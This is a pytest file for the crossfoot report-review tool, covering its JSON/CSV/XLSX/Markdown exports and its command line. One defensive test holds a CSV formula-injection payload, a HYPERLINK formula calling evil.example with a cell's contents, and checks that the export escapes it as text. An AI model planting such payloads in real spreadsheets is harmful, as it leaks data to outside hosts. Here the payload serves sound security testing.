from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from crossfoot import pipeline
from crossfoot.cli import main
from crossfoot.findings import Finding
from crossfoot.pipeline import Analysis
from crossfoot.render import render_findings
from crossfoot.review.export import COLUMNS, export_bytes, export_filename
from crossfoot.review.store import ReviewStore, manual_finding

from .conftest import SHA, make_analysis, make_findings, make_report


def review_some(store: ReviewStore, analysis: Analysis) -> tuple[Finding, str]:
    """Decisions of two reviewers, a manual finding and a stale decision: every kind of row."""
    f = analysis.findings
    store.set_state(SHA, f[0].key, "confirmed", note="差0.18万元")
    with ReviewStore.open(store.path, reviewer="bob") as bob:
        bob.add_note(SHA, f[0].key, "同意")
    store.set_state(SHA, f[1].key, "dismissed", note="印刷错误")
    m = manual_finding(page=3, quote="合计行未列示上年结转", stated="1,334.75", refs=(f[0].refs[0],))
    store.add_manual(SHA, m)
    store.set_state(SHA, "0123456789abcdef", "confirmed", note="旧版本的发现")
    return m, "0123456789abcdef"


def check_json(analysis: Analysis, include_all: bool) -> dict[str, Any]:
    doc = json.loads(render_findings(analysis, "json", include_all=include_all))
    assert isinstance(doc, dict)
    return doc


@pytest.mark.parametrize("include_all", [False, True])
def test_json_export_is_check_json_plus_review(store: ReviewStore, analysis: Analysis, include_all: bool) -> None:
    m, stale = review_some(store, analysis)
    doc = json.loads(export_bytes(analysis, store, "json", include_all=include_all))
    want = check_json(analysis, include_all)
    assert [f["id"] for f in doc["findings"]] == [f["id"] for f in want["findings"]]
    assert [{k: v for k, v in f.items() if k != "review"} for f in doc["findings"]] == want["findings"]
    assert doc["document"] == want["document"]
    first = doc["findings"][0]["review"]
    assert first["state"] == "confirmed" and first["reviewer"] == "alice"
    assert [n["text"] for n in first["notes"]] == ["差0.18万元", "同意"]
    assert [x["id"] for x in doc["manual"]] == [m.key]
    assert [x["id"] for x in doc["stale"]] == [stale]
    assert doc["summary"]["source"] == {"crossfoot": len(want["findings"]), "manual": 1, "stale": 1}
    assert doc["export"]["by"] == "alice"
    assert [e["kind"] for e in doc["audit_trail"]] == ["state", "note", "state", "manual", "state"]


def test_csv_export_reads_back(store: ReviewStore, analysis: Analysis) -> None:
    m, stale = review_some(store, analysis)
    data = export_bytes(analysis, store, "csv")
    assert data.startswith(b"\xef\xbb\xbf")  # BOM for Excel/WPS
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert tuple(rows[0].keys()) == COLUMNS
    problems = [f["id"] for f in check_json(analysis, False)["findings"]]
    assert [r["id"] for r in rows if r["source"] == "crossfoot"] == problems
    assert [r["id"] for r in rows if r["source"] == "manual"] == [m.key]
    assert [r["id"] for r in rows if r["source"] == "stale"] == [stale]
    first = rows[0]
    assert first["quote"] == analysis.findings[0].quote
    assert (first["review_state"], first["reviewer"]) == ("confirmed", "alice")
    assert "alice" in first["notes"] and "bob" in first["notes"] and "同意" in first["notes"]
    assert first["cells"].startswith("t1 «合计» [本年收入] = 1,334.75")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_text_that_looks_like_a_formula_stays_text(store: ReviewStore, analysis: Analysis) -> None:
    store.add_manual(SHA, manual_finding(page=1, quote=FORMULA, stated="-12.5", expected="@x"))
    rows = list(csv.DictReader(io.StringIO(export_bytes(analysis, store, "csv").decode("utf-8-sig"))))
    (man,) = [r for r in rows if r["source"] == "manual"]
    assert (man["quote"], man["stated"], man["expected"]) == ("'" + FORMULA, "-12.5", "'@x")
    wb = openpyxl.load_workbook(io.BytesIO(export_bytes(analysis, store, "xlsx")))
    quotes = [c for c in wb["findings"]["H"] if c.value == FORMULA]
    assert len(quotes) == 1 and quotes[0].data_type == "s"


def test_export_without_store_lists_findings_as_open(analysis: Analysis) -> None:
    doc = json.loads(export_bytes(analysis, None, "json", include_all=True))
    assert len(doc["findings"]) == len(analysis.findings)
    assert {f["review"]["state"] for f in doc["findings"]} == {"open"}
    assert doc["manual"] == [] and doc["stale"] == [] and doc["export"]["review_db"] is None


def test_unknown_format_is_refused(analysis: Analysis) -> None:
    with pytest.raises(ValueError):
        export_bytes(analysis, None, "pdf")


def test_export_filename() -> None:
    assert export_filename(make_report(), "xlsx") == "某部门2024年部门决算.review.xlsx"


# -- through the command line, against `crossfoot check --format json` --------------------------------


@pytest.fixture
def fake_pipeline(monkeypatch: pytest.MonkeyPatch) -> Analysis:
    """`crossfoot check` and `crossfoot export` on the hand-made report, whatever ingest can do today."""
    analysis = make_analysis()
    import crossfoot.ingest

    monkeypatch.setattr(crossfoot.ingest, "load", lambda *a, **k: analysis.report)
    monkeypatch.setattr(pipeline, "analyse", lambda *a, **k: analysis)
    return analysis


def test_cli_exports_match_check_json(tmp_path: Path, fake_pipeline: Analysis) -> None:
    db = tmp_path / "team.sqlite3"
    with ReviewStore.open(db, reviewer="alice") as s:
        s.set_state(SHA, fake_pipeline.findings[0].key, "confirmed")
    pdf = str(tmp_path / "r.pdf")
    for extra in ([], ["--all"]):
        assert main(["check", pdf, "--format", "json", "-o", str(tmp_path / "check.json"), *extra]) == 0
        want = [f["id"] for f in json.loads((tmp_path / "check.json").read_text("utf-8"))["findings"]]
        assert want
        base = ["export", pdf, "--review-db", str(db), "--reviewer", "lead", *extra]

        assert main([*base, "--format", "json", "-o", str(tmp_path / "e.json")]) == 0
        doc = json.loads((tmp_path / "e.json").read_text("utf-8"))
        assert [f["id"] for f in doc["findings"]] == want
        assert doc["export"]["by"] == "lead"
        assert doc["findings"][0]["review"]["reviewer"] == "alice"

        assert main([*base, "--format", "csv", "-o", str(tmp_path / "e.csv")]) == 0
        rows = list(csv.DictReader(io.StringIO((tmp_path / "e.csv").read_text("utf-8-sig"))))
        assert [r["id"] for r in rows] == want

        assert main([*base, "--format", "xlsx", "-o", str(tmp_path / "e.xlsx")]) == 0
        ws = openpyxl.load_workbook(tmp_path / "e.xlsx")["findings"]
        assert [r[0] for r in ws.iter_rows(min_row=2, values_only=True)] == want

        assert main([*base, "--format", "md", "-o", str(tmp_path / "e.md")]) == 0
        md = (tmp_path / "e.md").read_text("utf-8")
        assert all(f"`{k}`" in md for k in want)
        for name in ("e.json", "e.csv", "e.xlsx", "e.md"):
            assert stat.S_IMODE((tmp_path / name).stat().st_mode) == 0o600


def test_cli_xlsx_needs_output(tmp_path: Path, fake_pipeline: Analysis,
                               capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", str(tmp_path / "r.pdf"), "--format", "xlsx"]) == 2
    err = capsys.readouterr().err
    assert "-o" in err and len(err.strip().splitlines()) == 1


def test_cli_missing_shared_db_is_an_error(tmp_path: Path, fake_pipeline: Analysis,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", str(tmp_path / "r.pdf"), "--review-db", str(tmp_path / "typo.sqlite3")]) == 2
    assert "typo.sqlite3" in capsys.readouterr().err
    assert not (tmp_path / "typo.sqlite3").exists()


def test_cli_export_to_stdout_creates_nothing(tmp_path: Path, fake_pipeline: Analysis, data_dir: Path,
                                              capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    assert main(["export", str(tmp_path / "r.pdf"), "--format", "json"]) == 0
    doc = json.loads(capsysbinary.readouterr().out)
    assert [f["id"] for f in doc["findings"]] == [f.key for f in make_findings() if f.is_problem]
    assert list(tmp_path.iterdir()) == []  # no review database created, nothing beside the report


def test_cli_export_reads_personal_db(tmp_path: Path, fake_pipeline: Analysis,
                                      capsysbinary: pytest.CaptureFixture[bytes]) -> None:
    with ReviewStore.open(reviewer="me") as s:
        s.set_state(SHA, fake_pipeline.findings[0].key, "dismissed")
    assert main(["export", str(tmp_path / "r.pdf"), "--format", "json"]) == 0
    doc = json.loads(capsysbinary.readouterr().out)
    assert doc["findings"][0]["review"]["state"] == "dismissed"
